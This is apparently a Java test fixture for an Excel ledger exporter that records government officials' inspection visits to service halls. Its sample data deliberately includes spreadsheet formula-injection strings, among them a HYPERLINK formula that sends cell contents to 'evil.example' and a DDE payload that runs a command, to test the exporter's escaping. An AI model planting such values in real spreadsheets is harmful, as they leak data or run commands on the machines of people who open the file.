package io.github.zouliucheng.walk.report.office.ledger;

import io.github.zouliucheng.walk.analytics.Analysis;
import io.github.zouliucheng.walk.analytics.WalkAnalytics;
import io.github.zouliucheng.walk.model.Approach;
import io.github.zouliucheng.walk.model.Callback;
import io.github.zouliucheng.walk.model.CallbackResult;
import io.github.zouliucheng.walk.model.Complexity;
import io.github.zouliucheng.walk.model.Coverage;
import io.github.zouliucheng.walk.model.Dataset;
import io.github.zouliucheng.walk.model.Effect;
import io.github.zouliucheng.walk.model.Finding;
import io.github.zouliucheng.walk.model.FindingCategory;
import io.github.zouliucheng.walk.model.FindingSource;
import io.github.zouliucheng.walk.model.Matter;
import io.github.zouliucheng.walk.model.Member;
import io.github.zouliucheng.walk.model.Period;
import io.github.zouliucheng.walk.model.Priority;
import io.github.zouliucheng.walk.model.Rectification;
import io.github.zouliucheng.walk.model.RectificationMode;
import io.github.zouliucheng.walk.model.Role;
import io.github.zouliucheng.walk.model.Roster;
import io.github.zouliucheng.walk.model.ServicePoint;
import io.github.zouliucheng.walk.model.ServicePointKind;
import io.github.zouliucheng.walk.model.Unit;
import io.github.zouliucheng.walk.model.UnitKind;
import io.github.zouliucheng.walk.model.Visibility;
import io.github.zouliucheng.walk.model.Walk;
import io.github.zouliucheng.walk.model.WalkForm;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * A small city with every case a ledger row can take (closed, solved, overdue, open, no
 * rectification, a hotline ticket, a member who did not walk, leaders of one unit at one point on
 * one day), texts that look like formulas, and helpers to read a written workbook back.
 */
final class LedgerFixtures {
  static final Period Q1 = Period.parse("2023-Q1");
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
  static final String DDE = "+cmd|' /C calc'!A0";
  static final String AT_SUM = "@SUM(1)";
  static final String MINUS = "-2+3";
  static final String TAB = "\t=1+1";

  private LedgerFixtures() {}

  static Dataset dataset() {
    return dataset("12345热线工单未回访");
  }

  /** Returns the city with {@code hotlineDescription} as the description of its hotline ticket, f04. */
  static Dataset dataset(String hotlineDescription) {
    List<Unit> units =
        List.of(
            Unit.builder().id("huanan").name("桦南县").kind(UnitKind.COUNTY).region("东部").build(),
            Unit.of("city-justice", "市司法局", UnitKind.DEPARTMENT),
            Unit.of("city-tax", AT_SUM, UnitKind.DEPARTMENT));
    List<Member> members =
        List.of(
            member("huanan-01", "张三", "县长", "huanan", true),
            member("huanan-02", "李四", "副县长", "huanan", false),
            member("huanan-03", "王五", "副县长", "huanan", false),
            member("justice-01", "赵六", "局长", "city-justice", true),
            member("justice-02", HYPERLINK, "副局长", "city-justice", false),
            member("tax-01", "孙七", DDE, "city-tax", true));
    LocalDate feb6 = LocalDate.of(2023, 2, 6);
    List<Walk> walks = new ArrayList<>();
    walks.add(
        walk("w01", "huanan-01", "huanan", feb6, "hall-1", "县政务服务中心")
            .addFindings(
                finding("f01", "办事窗口设置过少，群众排队等待时间较长", FindingCategory.WAITING_CAPACITY, "huanan", feb6)
                    .priority(Priority.HEAVY)
                    .rectification(
                        Rectification.builder()
                            .mode(RectificationMode.SCHEDULED)
                            .deadline(feb6.plusDays(20))
                            .owner("县政务服务中心主任")
                            .ownerUnitId("huanan")
                            .addMeasures("增设窗口", "增设自助终端")
                            .addEffects(Effect.of("办事窗口", new BigDecimal("2"), new BigDecimal("4"), "个"))
                            .startedOn(feb6)
                            .rectifiedOn(feb6.plusDays(10))
                            .closedOn(feb6.plusDays(12))
                            .callback(Callback.of(feb6.plusDays(13), CallbackResult.SATISFIED))
                            .build())
                    .build())
            .build());
    walks.add(
        walk("w02", "huanan-02", "huanan", feb6, "hall-1", "县政务服务中心")
            .addFindings(
                finding("f02", MINUS, FindingCategory.APPROVAL_TIME, "huanan", feb6)
                    .rectification(
                        Rectification.builder()
                            .mode(RectificationMode.SCHEDULED)
                            .deadline(LocalDate.of(2023, 3, 1))
                            .owner(TAB)
                            .startedOn(feb6)
                            .build())
                    .build())
            .build());
    walks.add(walk("w03", "huanan-03", "huanan", feb6.plusDays(1), "hall-2", "县医院").build());
    walks.add(
        walk("w04", "justice-01", "city-justice", LocalDate.of(2023, 3, 8), "justice-hall", "市公共法律服务中心")
            .addFindings(
                finding("f03", HYPERLINK, FindingCategory.MATERIALS_PROOFS, "city-justice", LocalDate.of(2023, 3, 8))
                    .rectification(
                        Rectification.builder()
                            .mode(RectificationMode.IMMEDIATE)
                            .addMeasures(DDE)
                            .rectifiedOn(LocalDate.of(2023, 3, 9))
                            .build())
                    .build())
            .build());
    walks.add(walk("w05", "tax-01", "city-tax", LocalDate.of(2023, 3, 20), "tax-hall", TAB).build());
    Finding hotline =
        Finding.builder()
            .id("f04")
            .source(FindingSource.HOTLINE_12345)
            .description(hotlineDescription)
            .category(FindingCategory.FOLLOW_UP)
            .responsibleUnitId("city-tax")
            .foundOn(LocalDate.of(2023, 3, 25))
            .sourceReference(AT_SUM)
            .build();
    return Dataset.builder()
        .period(Q1)
        .roster(Roster.of(units, members))
        .addAllWalks(walks)
        .addFindings(hotline)
        .build();
  }

  static Analysis analysis(Dataset dataset) {
    return WalkAnalytics.analyze(dataset);
  }

  private static Member member(String id, String name, String title, String unit, boolean principal) {
    return Member.builder().id(id).name(name).title(title).unitId(unit).principal(principal).build();
  }

  private static Walk.Builder walk(String id, String leader, String unit, LocalDate date, String point, String pointName) {
    return Walk.builder()
        .id(id)
        .leaderId(leader)
        .unitId(unit)
        .date(date)
        .servicePoint(ServicePoint.builder().id(point).name(pointName).kind(ServicePointKind.SERVICE_HALL).ownerUnitId(unit).build())
        .addMatters(Matter.builder().name("企业开办").complexity(Complexity.SIMPLE).build())
        .role(Role.CITIZEN)
        .approach(Approach.HANDLED)
        .addForms(WalkForm.ON_SITE)
        .visibility(Visibility.ANNOUNCED)
        .coverage(Coverage.PART);
  }

  private static Finding.Builder finding(String id, String description, FindingCategory category, String unit, LocalDate on) {
    return Finding.builder()
        .id(id)
        .source(FindingSource.WALK)
        .description(description)
        .category(category)
        .responsibleUnitId(unit)
        .foundOn(on);
  }

  /** Writes the ledger to memory. */
  static byte[] bytes(io.github.zouliucheng.walk.report.office.ledger.Ledger ledger) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      ledger.write(out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /**
   * Reads a workbook back with the full (non-streaming) reader; its guard against zip bombs is
   * relaxed, since a ledger's repeated identifiers compress very well.
   */
  static XSSFWorkbook read(byte[] bytes) {
    org.apache.poi.openxml4j.util.ZipSecureFile.setMinInflateRatio(0.001);
    try {
      return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Returns every row of a sheet as the texts a person sees, blank cells as "". */
  static List<List<String>> texts(Sheet sheet) {
    DataFormatter formatter = new DataFormatter(java.util.Locale.ROOT);
    List<List<String>> rows = new ArrayList<>();
    for (Row row : sheet) {
      List<String> cells = new ArrayList<>();
      for (int c = 0; c < row.getLastCellNum(); c++) {
        Cell cell = row.getCell(c);
        cells.add(cell == null ? "" : formatter.formatCellValue(cell));
      }
      rows.add(cells);
    }
    return rows;
  }
}
